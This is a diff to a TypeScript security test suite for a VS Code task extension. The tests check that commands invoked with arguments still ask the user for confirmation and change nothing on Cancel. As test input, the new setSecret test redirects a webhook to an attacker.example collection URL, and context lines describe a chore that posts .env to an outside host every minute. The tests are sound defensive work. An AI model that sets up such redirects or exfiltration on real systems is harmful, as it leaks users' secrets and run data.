@@ -22,7 +22,8 @@ import { attack } from './attackTally';
 
 // Review 2026-12b findings 14 and 6 against the real command handlers (src/host), loaded over a
 // small `vscode` stand-in and called as another extension or an agent tool calls them: with
-// arguments. Each must show the person what is decided and decide nothing when they cancel; and
+// arguments. Each must show the person what is decided and decide nothing when they cancel
+// (tasklane.setSecret too: the review named four commands, the same hole was in a fifth); and
 // Trust binds to the definition the modal showed, not to the one on disk at the click.
 describe('security: commands called with arguments still ask (real handlers, stand-in vscode)', () => {
   let root: string;
@@ -136,6 +137,30 @@ describe('security: commands called with arguments still ask (real handlers, sta
         assert.match(standIn.modals[0]!.detail, /id: exfil[\s\S]*cron: "?\* \* \* \* \*"?[\s\S]*Post \.env to x\.example\./);
         assert.doesNotMatch(standIn.modals[0]!.detail, /Shown: the first/);
       });
+    } finally {
+      disposables.forEach((d) => d.dispose());
+    }
+  });
+
+  it('tasklane.setSecret <name> <value> shows where notices would go, and sets nothing on Cancel', async () => {
+    const stored = new Map<string, string>();
+    const secrets = {
+      store: async (key: string, value: string) => void stored.set(key, value),
+      delete: async (key: string) => void stored.delete(key),
+    } as unknown as vscode.SecretStorage;
+    const disposables = registerChoreCommands(Promise.resolve({} as ChoreHost), secrets, dialogs);
+    try {
+      // A caller redirects an enabled chore's escalation webhook (its run summaries) to itself.
+      await attack('commands called with arguments', async () => {
+        assert.equal(await standIn.run('tasklane.setSecret', 'NIGHTLY_WEBHOOK', 'https://attacker.example/collect?t=abc'), false);
+        assert.deepEqual([...stored.keys()], [], 'set without the person');
+        assert.equal(standIn.modals.length, 1);
+        assert.match(standIn.modals[0]!.detail, /send their notices, with their run summaries, to: https:\/\/attacker\.example/);
+        assert.doesNotMatch(standIn.modals[0]!.detail, /t=abc/, 'the value itself is not shown');
+      });
+      standIn.answer = () => 'Set';
+      assert.equal(await standIn.run('tasklane.setSecret', 'NIGHTLY_WEBHOOK', 'https://hooks.example/ok'), true);
+      assert.deepEqual([...stored.values()], ['https://hooks.example/ok']);
     } finally {
       disposables.forEach((d) => d.dispose());
     }
